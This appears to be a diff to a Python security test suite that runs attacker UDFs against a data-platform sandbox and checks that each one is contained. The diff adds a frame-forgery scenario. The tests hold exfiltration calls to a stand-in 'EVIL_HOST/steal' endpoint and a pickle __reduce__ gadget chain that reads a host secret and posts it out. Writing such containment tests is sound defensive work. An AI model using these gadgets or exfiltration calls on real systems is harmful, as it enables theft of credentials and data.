@@ -3,11 +3,11 @@
 Every scenario ships real attacker code through the public UDF path and
 asserts the sandbox boundary held: no egress delivery, no ambient
 credentials in scope, no host-filesystem reads, no policy escalation, no
-cross-trust-domain invocation. The in-process sandbox shares an
-interpreter with the driver, so raw ``open()``/``gc`` introspection is a
-*documented* gap (DESIGN.md §12 known gaps), not something these probes
-pretend to contain — they attack the brokered paths the design actually
-defends.
+cross-trust-domain invocation, no code run in the driver by a forged worker
+frame. The in-process sandbox shares an interpreter with the driver, so raw
+``open()``/``gc`` introspection is a *documented* gap (DESIGN.md §12 known
+gaps), not something these probes pretend to contain — they attack the
+brokered paths the design actually defends.
 """
 
 from __future__ import annotations
@@ -22,6 +22,7 @@ from repro.errors import (
     EgressDenied,
     HostFilesystemDenied,
     LakeguardError,
+    SandboxDied,
     SandboxPolicyViolation,
     TrustDomainViolation,
     UserCodeError,
@@ -29,10 +30,9 @@ from repro.errors import (
 
 
 def _run_udf_select(
-    gauntlet: Any, user: str, expression: Any
+    client: Any, expression: Any
 ) -> tuple[list[tuple], LakeguardError | None]:
-    """Run ``SELECT expression FROM orders`` as ``user``; (rows, error)."""
-    client = gauntlet.client_for(user)
+    """Run ``SELECT expression FROM orders`` on ``client``; (rows, error)."""
     try:
         rows = client.table(h.ORDERS).select(expression).collect()
         return rows, None
@@ -57,7 +57,7 @@ def udf_egress_exfiltration(gauntlet: Any) -> AttackResult:
         net.http_post(f"http://{h.EVIL_HOST}/steal", buyer)
         return buyer
 
-    rows, error = _run_udf_select(gauntlet, "alice", exfil(col("buyer")))
+    rows, error = _run_udf_select(gauntlet.client_for("alice"), exfil(col("buyer")))
     if gauntlet.evil_received:
         return leaked(
             f"evil endpoint received {len(gauntlet.evil_received)} payloads",
@@ -95,7 +95,7 @@ def udf_ambient_credential_scrape(gauntlet: Any) -> AttackResult:
     # Force at least one live credential to exist while the probe runs.
     gauntlet.client_for("alice").table(h.ORDERS).collect()
     live_before = gauntlet.forbidden_tokens()
-    rows, error = _run_udf_select(gauntlet, "alice", scrape(col("region")))
+    rows, error = _run_udf_select(gauntlet.client_for("alice"), scrape(col("region")))
     if error is not None:
         return judge(error, live_before, f"scrape failed with {type(error).__name__}")
     scraped = {r[0] for r in rows}
@@ -121,7 +121,7 @@ def udf_host_filesystem_probe(gauntlet: Any) -> AttackResult:
 
         return net.fs_read(secret_path).decode()
 
-    rows, error = _run_udf_select(gauntlet, "alice", read_host(col("region")))
+    rows, error = _run_udf_select(gauntlet.client_for("alice"), read_host(col("region")))
     if not isinstance(error, HostFilesystemDenied):
         return leaked(
             f"expected HostFilesystemDenied, query returned {error or rows}"
@@ -150,7 +150,7 @@ def udf_ambient_policy_escalation(gauntlet: Any) -> AttackResult:
             net.http_post(f"http://{h.EVIL_HOST}/steal", buyer)
         return buyer
 
-    rows, error = _run_udf_select(gauntlet, "alice", escalate(col("buyer")))
+    rows, error = _run_udf_select(gauntlet.client_for("alice"), escalate(col("buyer")))
     if gauntlet.evil_received:
         return leaked(
             f"escalated policy delivered {len(gauntlet.evil_received)} payloads"
@@ -197,3 +197,59 @@ def udf_cross_trust_domain_invoke(gauntlet: Any) -> AttackResult:
         return leaked(f"foreign-domain sandbox executed the UDF: {rows}")
     finally:
         mallory_box.close()
+
+
+@attack_scenario(
+    name="udf-frame-forgery",
+    layer="sandbox",
+    technique="udf-probe",
+    expected_containment="the driver decodes worker frames with a data-only "
+    "unpickler: a frame naming a global kills the sandbox (SandboxDied, "
+    "never replayed) before anything it names is resolved",
+)
+def udf_frame_forgery(gauntlet: Any) -> AttackResult:
+    """A UDF writes a forged reply frame to its worker's stdout whose payload
+    unpickles to "read the host secret and POST it" — in whoever decodes it."""
+    evil_url = f"http://{h.EVIL_HOST}/steal"
+    secret_path = gauntlet.host_secret_path
+
+    @udf("string")
+    def forge(buyer):
+        import os
+        import pickle
+        import struct
+
+        from repro.sandbox import net
+
+        class ReadSecret:
+            def __reduce__(self):
+                return (net.fs_read, (secret_path,))
+
+        class Exfiltrate:
+            def __reduce__(self):
+                return (net.http_post, (evil_url, ReadSecret()))
+
+        # Outside any sandbox scope — i.e. in the driver — both calls pass.
+        body = pickle.dumps(("ok", [Exfiltrate(), Exfiltrate()]))
+        os.write(1, struct.pack(">I", len(body)) + body)
+        return buyer
+
+    # Only the subprocess backend has a frame stream to forge.
+    cluster = gauntlet.workspace.create_standard_cluster(
+        name="gauntlet-frame-forgery", sandbox_backend="subprocess"
+    )
+    try:
+        rows, error = _run_udf_select(cluster.connect("alice"), forge(col("buyer")))
+        if gauntlet.evil_received:
+            return leaked(
+                f"forged frame ran in the driver: evil endpoint received "
+                f"{len(gauntlet.evil_received)} payloads",
+                bytes_=sum(len(str(p)) for p in gauntlet.evil_received),
+            )
+        if not isinstance(error, SandboxDied):
+            return leaked(f"expected SandboxDied, query returned {error or rows}")
+        return judge(
+            (rows, error), gauntlet.forbidden_tokens(), "forged frame refused"
+        )
+    finally:
+        cluster.shutdown()
